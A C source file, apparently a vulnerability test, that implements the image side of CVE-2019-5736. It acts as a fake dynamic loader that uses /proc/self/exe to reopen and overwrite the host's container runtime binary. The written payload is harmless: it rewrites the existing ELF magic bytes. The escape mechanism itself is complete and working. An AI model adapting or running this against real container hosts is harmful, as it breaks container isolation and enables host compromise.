/* The image's side of CVE-2019-5736, without a C library, because it is also the image's dynamic loader.
 *
 * When the kernel runs /proc/self/exe of the runtime, it loads the interpreter that the image has
 * at the path of the dynamic loader: this program.  It keeps the file that it was started for by an
 * O_PATH descriptor, becomes /attacker so that the file is no longer busy, and tries to write to it,
 * once there is a file /go: while any command of the runtime runs, the file is busy.
 * It writes the four bytes that are there already: a hit shows in the file's times and harms nobody.
 */
#define O_PATH 010000000
#define O_WRONLY 1
#define EXIT 0
#define READLINK 1
#define OPEN 2
#define WRITE 3
#define EXECVE 4
#define SLEEP 5

#if defined __x86_64__
static const long number[] = {60, 267, 257, 1, 59, 35};
static long call(long n, long a, long b, long c, long d)
{
	long result;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number[n]), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return result;
}
__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall begin\n");
#elif defined __aarch64__
static const long number[] = {93, 78, 56, 64, 221, 101};
static long call(long n, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = number[n];
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
}
__asm__(".globl _start\n_start:\n\tmov x0, sp\n\tbl begin\n");
#endif

static long length(const char *text)
{
	long size = 0;
	while (text[size])
		size++;
	return size;
}

static void say(const char *text)
{
	call(WRITE, 1, (long)text, length(text), 0);
}

static void say_number(long value)
{
	char text[24];
	int at = 23;
	text[at] = 0;
	do
		text[--at] = '0' + value % 10;
	while (value /= 10);
	say(text + at);
}

static void attack(const char *fd)
{
	char path[64] = "/proc/self/fd/", target[512];
	long start = length(path), size, error = 0;
	const long pause[2] = {0, 1000000};
	for (long i = 0; fd[i]; i++)
		path[start + i] = fd[i];
	size = call(READLINK, -100, (long)path, (long)target, sizeof target - 1);
	target[size > 0 ? size : 0] = 0;
	say("exe ");
	say(target);
	say("\n");
	for (int round = 0; round < 300000; round++) {
		if (call(OPEN, -100, (long)"/go", O_PATH, 0) >= 0)
			break;
		call(SLEEP, (long)pause, 0, 0, 0);
	}
	for (int round = 0; round < 400; round++) {
		long file = call(OPEN, -100, (long)path, O_WRONLY, 0);
		if (file >= 0) {
			long written = call(WRITE, file, (long)"\177ELF", 4, 0);
			if (written == 4) {
				say("WROTE\n");
				return;
			}
			error = -written;
		} else {
			error = -file;
		}
		call(SLEEP, (long)pause, 0, 0, 0);
	}
	say("refused ");
	say_number(error);
	say("\n");
}

void begin(long *stack)
{
	char **argv = (char **)(stack + 1);
	if (stack[0] == 2 && argv[0][0] == '/' && argv[0][1] == 'a' && length(argv[0]) == 9) {
		attack(argv[1]);
	} else {
		char digits[2] = {0, 0};
		const char *next[3] = {"/attacker", digits, 0};
		long fd = call(OPEN, -100, (long)"/proc/self/exe", O_PATH, 0);
		digits[0] = '0' + fd;
		call(EXECVE, (long)next[0], (long)next, (long)(argv + stack[0] + 1), 0);
		say("no attack\n");
	}
	call(EXIT, 0, 0, 0, 0);
}
